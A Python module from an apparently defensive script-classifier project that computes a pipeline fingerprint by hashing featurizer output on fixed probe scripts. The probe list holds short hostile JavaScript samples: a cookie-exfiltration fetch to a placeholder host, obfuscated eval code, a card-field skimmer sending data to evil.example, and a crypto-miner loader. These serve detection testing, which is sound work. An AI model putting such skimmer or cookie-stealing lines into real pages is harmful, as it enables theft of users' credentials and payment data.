"""Fingerprint of the script classifier's pipeline (source preparation, parser, featurizer).

As for the WAF (:mod:`bastion.waf.fingerprint`): the featurizer id and constants
(:func:`bastion.scripts.model.featurizer_fingerprint`) plus the features the pipeline
(``prepare`` -> ``parse_many`` -> ``Featurizer.featurize``) produces for fixed probe
scripts that exercise HTML extraction, string decoding, obfuscation and long inputs.
Training records it in ``meta["pipeline"]``; :class:`bastion.scripts.model.Model` refuses
a file whose fingerprint differs. Files without one are mapped through
:data:`LEGACY_PIPELINES` (featurizer id -> pipeline fingerprint of the code they were
trained with, as of the commit that added this module).
"""

from __future__ import annotations

import functools
import hashlib

from bastion.scripts.features import Featurizer
from bastion.scripts.source import prepare
from bastion.scripts.tree import parse_many

#: Probe scripts: plain code, HTML containers, encoded strings, obfuscation, skimmer shapes.
PROBES: tuple[bytes, ...] = (
    b"function add(a, b) { return a + b; }\nconsole.log(add(1, 2));",
    b"<html><body><script>var x = document.cookie; fetch('https://x.example/c?'+x)</script>"
    b"<script src='/a.js'></script></body></html>",
    b"var _0x1a=['\\x63\\x6f\\x6f\\x6b\\x69\\x65','YWxlcnQoMSk='];"
    b"eval(atob(_0x1a[1]));window[String.fromCharCode(101,118,97,108)]('1');",
    b"document.querySelectorAll('input[name*=card]').forEach(function(e){"
    b"new Image().src='//evil.example/g?d='+btoa(e.value)});",
    b"var miner = new CoinHive.Anonymous('key', {throttle: 0.3}); miner.start();"
    b"importScripts('https://m.example/worker.wasm');",
    b"(function(){var s='%75%6e%65%73%63%61%70%65';return unescape(s)})()",
    b"const big = [" + b",".join(str(i).encode() for i in range(600)) + b"];",
)


@functools.cache
def pipeline_fingerprint() -> str:
    """16 hex digits over the featurizer id, its constants and its output on :data:`PROBES`."""
    from bastion.scripts.model import FEATURIZER_VERSION, featurizer_fingerprint

    h = hashlib.sha256()
    h.update(f"{FEATURIZER_VERSION}\n{featurizer_fingerprint()}\n".encode())
    for data in PROBES:
        src = prepare(data)
        tree = parse_many(src.chunks)
        h.update(f"{src.container}:{src.truncated}:{len(tree.kinds)}\n".encode())
        if not tree.kinds:
            continue
        fs = Featurizer().featurize(tree)
        h.update(str(fs.length).encode())
        for ids, pos in fs.groups:
            h.update(ids.tobytes())
            h.update(pos.tobytes())
    return h.hexdigest()[:16]


#: Featurizer fingerprint (``meta["featurizer"]``) of a file without a pipeline fingerprint
#: -> the pipeline fingerprint of the code such files were trained with.
LEGACY_PIPELINES: dict[str, str] = {
    # js-feat-5, the shipped scripts model (pipeline as of issue 8's registry commit).
    "b02f6dbfe7b90d4b": "49ec7aa0056a3d16",
}


def expected_pipeline(meta: dict[str, object]) -> str | None:
    """The pipeline fingerprint a model file was trained with, or ``None`` when unknown."""
    recorded = meta.get("pipeline")
    if isinstance(recorded, str):
        return recorded
    featurizer = meta.get("featurizer")
    return LEGACY_PIPELINES.get(featurizer) if isinstance(featurizer, str) else None
